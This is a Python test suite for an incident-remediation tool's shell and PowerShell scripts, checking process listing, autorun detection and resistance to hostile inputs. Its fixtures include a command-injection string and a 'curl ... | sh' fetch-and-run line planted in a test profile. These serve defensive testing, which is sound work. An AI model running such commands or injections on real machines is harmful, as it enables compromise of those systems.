"""The scripts that run in machines: the shell's really run, PowerShell's parsed by a real parser."""

from __future__ import annotations

import hashlib
import json
import os
import resource
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from remediation.investigation.output import read
from remediation.steps.in_guest import script_text

SCRIPTS = Path(__file__).resolve().parents[2] / "remediation" / "scripts"
LINUX = sorted((SCRIPTS / "linux").glob("*.sh"))
WINDOWS = sorted((SCRIPTS / "windows").glob("*.ps1"))


def run(name: str, folder: Path, **parameters: str) -> list[dict[str, Any]]:
    done = subprocess.run(["/bin/sh", str(SCRIPTS / "linux" / f"{name}.sh")], capture_output=True, cwd=folder,
                          env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", **parameters}, timeout=60)
    assert done.returncode == 0, done.stderr
    found = read(done.stdout)
    assert found.complete
    assert found.garbage == 0
    return [dict(r) for r in found.rows]


@pytest.mark.parametrize("path", LINUX, ids=lambda p: p.stem)
def test_every_linux_script_ends_well_in_json_lines_and_leaves_nothing_behind(path: Path, tmp_path: Path):
    run(path.stem, tmp_path)
    assert list(tmp_path.iterdir()) == []


def listed(program: Path, folder: Path) -> tuple[int, dict[int, dict[str, Any]]]:
    """The program run for a moment → its process id, and all processes as the script lists them."""
    process = subprocess.Popen([program, "60"], cwd=folder)
    try:
        return process.pid, {r["pid"]: r for r in run("processes", folder) if r["kind"] == "process"}
    finally:
        process.kill()
        process.wait()


def test_processes_are_listed_with_their_program_hash_and_parent(tmp_path: Path):
    program = tmp_path / 'od"d\\name'
    shutil.copy(shutil.which("sleep") or "/bin/sleep", program)
    pid, rows = listed(program, tmp_path)
    mine = rows[pid]
    assert mine["exe"] == str(program), "a name with quotes and backslashes reads as it is"
    assert mine["sha256"] == hashlib.sha256(program.read_bytes()).hexdigest()
    assert mine["ppid"] > 0
    assert not mine["own"]
    assert any(r["own"] for r in rows.values()), "the script tells itself from the rest"


def test_an_address_that_is_none_is_not_handed_to_a_command(tmp_path: Path):
    marker = tmp_path / "marker"
    run("cut_flows", tmp_path, ATTACKERS=f"$(touch {marker}),;touch {marker},-K,198.51.100.7", CUT="yes")
    assert not marker.exists()


def test_names_of_files_cannot_become_commands(tmp_path: Path):
    rows = run("autoruns", tmp_path)
    json.dumps(rows)
    evaluated = [
        line.strip() for path in LINUX for line in path.read_text().splitlines() if " eval " in f" {line} "
    ]
    assert [line for line in evaluated if not line.startswith(('eval "hash', "odd="))] == [], evaluated


def test_what_users_put_into_their_homes_neither_hangs_nor_fills_the_machine(tmp_path: Path):
    home, passwd = tmp_path / "home", tmp_path / "passwd"
    home.mkdir()
    passwd.write_text(f"eve:x:1000:1000::{home}:/bin/sh\n")
    (home / ".bashrc").symlink_to("/dev/zero")
    os.mkfifo(home / ".profile")
    with (home / ".zshrc").open("wb") as sparse:
        sparse.truncate(60 * 2**30)
    (home / ".bash_profile").write_text("# padding\n" * 200_000 + "curl http://198.51.100.7 | sh\n")
    script = (SCRIPTS / "linux" / "autoruns.sh").read_text().replace("/etc/passwd", str(passwd))

    def frugal() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (512 * 2**20, 512 * 2**20))

    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, timeout=40, preexec_fn=frugal)
    rows = {r["path"]: r for r in read(done.stdout).of("profile")}
    assert str(home / ".bashrc") not in rows
    assert str(home / ".profile") not in rows
    assert rows[str(home / ".zshrc")]["sha256"] == "", "too large to be hashed"
    found = rows[str(home / ".bash_profile")]
    assert "curl http://198.51.100.7" in str(found["what"]), "what stands at a large file's end is seen"


def test_a_huge_program_is_listed_without_a_hash(tmp_path: Path):
    program = tmp_path / "huge"
    shutil.copy(shutil.which("sleep") or "/bin/sleep", program)
    with program.open("r+b") as held:
        held.truncate(60 * 2**30)
    pid, rows = listed(program, tmp_path)
    assert (rows[pid]["exe"], rows[pid]["sha256"]) == (str(program), "")


@pytest.mark.parametrize("path", WINDOWS, ids=lambda p: p.stem)
def test_every_powershell_script_parses(path: Path):
    import tree_sitter_powershell
    from tree_sitter import Language, Parser

    tree = Parser(Language(tree_sitter_powershell.language())).parse(path.read_bytes())
    wrong = []

    def walk(node: Any) -> None:
        if node.is_error or node.is_missing:
            wrong.append((node.start_point, path.read_text().splitlines()[node.start_point[0]]))
        for child in node.children:
            walk(child)

    walk(tree.root_node)
    assert wrong == []


def test_the_parser_would_notice_a_script_that_is_broken():
    import tree_sitter_powershell
    from tree_sitter import Language, Parser

    broken = b"if ($x) { Get-Item 'a"
    assert Parser(Language(tree_sitter_powershell.language())).parse(broken).root_node.has_error


def test_a_script_is_found_by_the_machines_operating_system_and_nowhere_else():
    assert script_text("linux", "processes").startswith("#!/bin/sh")
    assert script_text("linux", "msrt") == script_text("", "processes") == script_text("beos", "x") == ""


def test_both_systems_have_a_script_for_each_step_but_the_removal_tool():
    assert {p.stem for p in WINDOWS} - {p.stem for p in LINUX} == {"msrt"}
    assert {p.stem for p in LINUX} <= {p.stem for p in WINDOWS}
